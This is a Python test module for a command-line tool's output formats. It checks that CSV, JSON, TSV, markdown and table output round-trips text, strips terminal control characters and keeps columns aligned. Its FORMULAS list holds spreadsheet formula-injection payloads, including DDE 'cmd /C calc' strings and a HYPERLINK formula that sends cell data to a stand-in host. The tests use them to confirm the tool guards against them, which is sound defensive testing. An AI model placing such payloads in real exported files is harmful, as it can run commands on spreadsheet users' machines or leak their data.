"""Every format gives back what it was given: JSON exactly, CSV apart from its guard, and tables in straight columns."""

from __future__ import annotations

import csv
import io
import json
import re
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st
from rich.cells import cell_len

from clustercli.present import formats
from clustercli.present.columns import Column, Listing
from clustercli.present.text import width
from tests.harmless import harmful

few = settings(max_examples=150, deadline=None)
NAMES = ["csv", "json", "jsonl", "markdown", "table", "tsv"]
# What a terminal, an editor or a reader's eye is led astray by: directions, invisible letters, line separators, tags.
MISLEADING = (
    "\u00ad\u061c\u180e\u200b\u200c\u200d\u200e\u200f\u2028\u2029\u202a\u202e\u2060\u2066\u2069\ufeff\U000e0041"
)
ODD = st.sampled_from(
    [*"=+-@＝＋－＠'\"; ,\t\n\r|\\[]`*_<>&:#{}", "\x00", "\x1b", "\x7f", "\x9b", *MISLEADING, "é", "Ж", "語"]
)
# Those that are harmful only beside others have tests of their own.
TEXTS = (st.text(ODD | st.sampled_from("aZ09"), max_size=12) | st.text(max_size=12)).filter(
    lambda text: not re.search("[\u0300-\u036f\u0483-\u0489\u0591-\u0f84\u1ab0-\u20ff\ufe0e-\ufe2f]", text)
)


def written(name: str, rows: list[dict[str, Any]], columns: int = 80, *, raw: bool = False, grow: bool = False) -> str:
    """What a format makes of rows."""
    names = list(rows[0]) if rows else ["name"]
    shown = tuple(Column(column, column, grow=grow) for column in names)
    out = io.StringIO(newline="")
    formats.load(name).write(Listing(shown, rows), out, columns, colour=False, raw=raw)
    return out.getvalue()


def is_harmful(character: str) -> bool:
    """Whether a character could act on a terminal or hide from a reader."""
    return bool(harmful(character, ""))


def spelt_out(text: str) -> str:
    """Text with its harmful characters written as escapes, line breaks and tabs as they are."""

    def one(character: str) -> str:
        if character in "\n\t" or not is_harmful(character):
            return character
        code = ord(character)
        return f"\\x{code:02x}" if code < 0x100 else f"\\u{code:04x}"

    return "".join(map(one, text.replace("\r\n", "\n")))


def without_guard(cell: str) -> str:
    """A cell without the apostrophes before what may begin a formula."""
    return re.sub(r"(^|[;\t\n][ \xa0]*+)'+", r"\1", cell)


def csv_rows(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text, newline=""), strict=True))


def test_there_are_six_formats_and_one_of_the_timeline_alone() -> None:
    assert formats.names() == formats.names("list") == NAMES
    assert formats.names("timeline") == sorted([*NAMES, "mermaid"])


@few
@given(TEXTS)
@example("\x1b[31mred\x1b[0m \u202eevil\u202c")
@example("[bold]x[/] :smile: [a.s.]")
def test_no_format_lets_a_control_character_through(text: str) -> None:
    allowed = {"csv": "\r\n\t", "tsv": "\n\t"}
    for name in NAMES:
        out = written(name, [{"a": text, "b": [text, {"text": text, "concept": text}], "c": {"value": text}}])
        assert {c for c in out if is_harmful(c)} <= set(allowed.get(name, "\n")), name


VALUES = st.recursive(
    TEXTS | st.none() | st.booleans() | st.integers(-9, 9) | st.floats(allow_nan=False, allow_infinity=False),
    lambda inner: st.lists(inner, max_size=3) | st.dictionaries(TEXTS, inner, max_size=3),
    max_leaves=5,
)


@few
@given(st.lists(VALUES, max_size=3))
def test_json_reads_back_to_exactly_the_values(values: list[Any]) -> None:
    rows = [{"name": value, "n": n} for n, value in enumerate(values)]
    assert json.loads(written("json", rows)) == rows
    assert written("json", rows).endswith("]\n")


@few
@given(st.lists(VALUES, max_size=3))
def test_json_lines_hold_one_object_a_line_and_read_back(values: list[Any]) -> None:
    rows = [{"name": value, "n": n} for n, value in enumerate(values)]
    lines = written("jsonl", rows).splitlines()
    assert [json.loads(line) for line in lines] == rows


@few
@given(st.lists(TEXTS, min_size=1, max_size=3))
def test_csv_reads_back_to_the_text_apart_from_its_guard(texts: list[str]) -> None:
    out = written("csv", [{"name": text, "n": str(n)} for n, text in enumerate(texts)])
    assert out.startswith("name,n\r\n")
    read = csv_rows(out)[1:]
    assert [n for _, n in read] == [str(n) for n in range(len(texts))]
    for (cell, _), text in zip(read, texts, strict=True):
        assert without_guard(cell) == without_guard(spelt_out(text))


@few
@given(st.lists(TEXTS, min_size=1, max_size=3))
def test_raw_csv_reads_back_to_exactly_the_text(texts: list[str]) -> None:
    rows = [{"name": text, "n": str(n)} for n, text in enumerate(texts)]
    assert csv_rows(written("csv", rows, raw=True))[1:] == [[text, str(n)] for n, text in enumerate(texts)]


FORMULAS = [
    '=HYPERLINK("https://x.example/?"&A1,"click")',
    "=1+1",
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-1+2",
    "-2+3+cmd|' /C calc'!A0",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(A1)",
    " =1+1",
    "\t=1+1",
    "\n=1+1",
    "\r=1+1",
    "\u00a0=1+1",
    '"=1+1',
    "'=1+1",
    "=",
    "-",
    "+420=1",
    "-5+cmd",
    "-5*A1",
    "\ufe66 1+1",
    "\ufe63cmd",
    "x;=cmd|' /C calc'!A0",
]
HARMLESS = [
    "-5",
    "+5",
    "-1,5",
    "1,5",
    "-1.5 %",
    "-12 500,75",
    "1/2",
    "0042",
    "+420 200 123 456",
    "+420200123456",
    "+381 (0)18 123-456",
    "(+420) 200 123 456",
    "00420 200 123 456",
    "200 123 456",
    "a=1+1",
    "a.s.",
    "[a.s.]",
    "Firma, s.r.o.",
    'say "hi"',
    "č. 5",
    "+420\xa0200\xa0123\xa0456",
    "+381 18 123 456, +381 18 123 457",
    "(+381) 18 123-456; (+381) 18 123-457",
    "-1.5e-05",
    "-33.9; 18.4",
    "teplota; -5; +5,3",
    "€ 5",
]


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_made_text(text: str) -> None:
    (cell,) = csv_rows(written("csv", [{"name": text}]))[1]
    if cell[0] == "'":
        assert without_guard(cell) == without_guard(spelt_out(text))
    else:
        assert not re.match(r"[\s\"']*[=+\-@＝＋－＠]", cell)
    assert csv_rows(written("csv", [{"name": text}], raw=True))[1] == [text]


@pytest.mark.parametrize("text", HARMLESS)
def test_numbers_phone_numbers_and_plain_text_are_left_alone(text: str) -> None:
    assert csv_rows(written("csv", [{"name": text}]))[1] == [text]


@pytest.mark.parametrize("value", [-5, -1.5, 0, 42, -0.25])
def test_numbers_that_are_no_text_stay_numbers(value: float) -> None:
    assert csv_rows(written("csv", [{"n": value}]))[1] == [str(value)]


def test_a_formula_is_guarded_where_a_semicolon_begins_a_cell_too() -> None:
    rows = [{"a": ["wool", "=1+1"], "b": ["=1+1", "wool"], "c": ["wool", "-5", "+420 200 123 456"], "d": "x=1; y-1"}]
    assert csv_rows(written("csv", rows))[1] == [
        "wool; '=1+1",
        "'=1+1; wool",
        "wool; -5; +420 200 123 456",
        "x=1; y-1",
    ]
    assert csv_rows(written("csv", rows, raw=True))[1][:2] == ["wool; =1+1", "=1+1; wool"]


@pytest.mark.parametrize("name", ["csv", "tsv", "markdown", "table"])
def test_an_empty_block_or_list_is_an_empty_cell(name: str) -> None:
    out = written(name, [{"name": {}, "other": [], "more": None, "last": "x"}])
    assert out.splitlines()[-1].strip("| ,\t") == "x"


@few
@given(st.lists(st.tuples(TEXTS, TEXTS), max_size=3))
def test_tsv_has_one_line_a_row_and_as_many_cells_as_columns(cells: list[tuple[str, str]]) -> None:
    out = written("tsv", [{"a": a, "b": b} for a, b in cells] or [{"a": "", "b": ""}])
    lines = out.split("\n")
    assert lines[0] == "a\tb"
    assert lines[-1] == ""
    assert [line.count("\t") for line in lines[1:-1]] == [1] * max(1, len(cells))


@few
@given(st.lists(st.tuples(TEXTS, TEXTS), max_size=3))
def test_markdown_has_one_line_a_row_and_no_cell_breaks_out(cells: list[tuple[str, str]]) -> None:
    out = written("markdown", [{"a": a, "b": b} for a, b in cells] or [{"a": "", "b": ""}])
    lines = out.splitlines()
    assert lines[:2] == ["| a | b |", "|---|---|"]
    assert len(lines) == 2 + max(1, len(cells))
    assert {len(re.findall(r"(?<!\\)(?:\\\\)*\|", line)) for line in lines} == {3}


def test_markdown_shows_markup_as_text() -> None:
    assert r"\<b\>x\</b\> \[link\](x) \*y\* \_z\_ \`c\` 1\|2 a\\b" in written(
        "markdown", [{"name": r"<b>x</b> [link](x) *y* _z_ `c` 1|2 a\b"}]
    )


@pytest.mark.parametrize("text", ["[bold]x[/]", "[/]", ":smile:", "Firma [a.s.]", "[link=https://x.example]x[/link]"])
@pytest.mark.parametrize("name", ["table", "tsv", "csv", "json", "jsonl"])
def test_markup_and_smileys_are_letters_like_any_other(name: str, text: str) -> None:
    assert text in written(name, [{"name": text}])


MIXED = ["Niš", "Ниш", "Nis\u030c", "Tkalcovna Náchod", "Ткачница", "終わり", "a\u0300\u0301\u0302b", "[a.s.]", "-5"]


@pytest.mark.parametrize("text", [*MIXED, "Ü", "ﬁ", "e\u0301" * 5, "Ћирилица", "ščřžý", "🙂"])
def test_the_width_of_a_text_is_that_on_a_terminal(text: str) -> None:
    assert width(text) == cell_len(text)


@few
@given(st.text(st.sampled_from("abcščĐđЖжЉћ語終\u0300\u0301\u030c\u0327 ")))
def test_letters_with_marks_and_wide_ones_count_as_a_terminal_counts(text: str) -> None:
    assert width(text) == cell_len(text)


def test_the_columns_of_a_table_stand_straight() -> None:
    lines = written("table", [{"name": text, "end": "|"} for text in MIXED]).splitlines()
    assert len(lines) == len(MIXED) + 1
    assert len({cell_len(line[: line.index("|")]) for line in lines[1:]}) == 1


@few
@given(st.lists(TEXTS, min_size=1, max_size=4), st.sampled_from([40, 80, 140]))
def test_a_table_never_exceeds_the_screen(texts: list[str], columns: int) -> None:
    rows = [{"name": text * 20, "other": text, "third": text * 3} for text in texts]
    assert all(cell_len(line) <= columns for line in written("table", rows, columns, grow=True).splitlines())


def test_a_table_wraps_long_text_and_loses_none_of_it() -> None:
    text = "Klaster tekstilne i odevne industrije jugoistočne Srbije, Niš " * 4
    out = written("table", [{"name": text}], 40, grow=True)
    assert " ".join(out.split()).removeprefix("name ") == text.strip()


@pytest.mark.parametrize(
    ("name", "expected"),
    [("csv", "name\r\n"), ("tsv", "name\n"), ("json", "[]\n"), ("jsonl", ""), ("table", "")],
)
def test_without_rows_a_program_still_finds_its_header(name: str, expected: str) -> None:
    assert written(name, []) == expected
